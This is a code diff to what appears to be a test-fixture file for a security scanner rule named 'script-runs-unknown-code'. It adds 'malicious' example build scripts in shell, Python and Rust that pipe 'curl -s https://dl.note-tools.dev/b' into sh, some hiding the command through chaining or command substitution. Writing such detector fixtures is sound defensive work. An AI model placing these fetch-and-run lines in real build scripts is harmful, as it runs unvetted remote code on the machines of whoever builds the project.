@@ -6,6 +6,10 @@ export const savedPrograms: readonly RuleExamples[] = [
     rule: "script-runs-unknown-code",
     malicious: [
       { "scripts/build.sh": "#!/bin/sh\necho Building\ncurl -s https://dl.note-tools.dev/b | sh\n" },
+      { "scripts/build.sh": "echo start && curl -s https://dl.note-tools.dev/b | sh\n" },
+      { "scripts/build.sh": 'echo "Done: a; b"; curl -s https://dl.note-tools.dev/b | sh\n' },
+      { "scripts/build.sh": 'echo "It says $(curl -s https://dl.note-tools.dev/b | sh)"\n' },
+      { "scripts/build.py": 'print("Building"); os.system("curl -s https://dl.note-tools.dev/b | sh")\n' },
       {
         "build.rs":
           'fn main() {\n  let _ = Command::new("sh").arg("-c").arg("curl -s https://dl.note-tools.dev/b | sh").spawn();\n}\n',
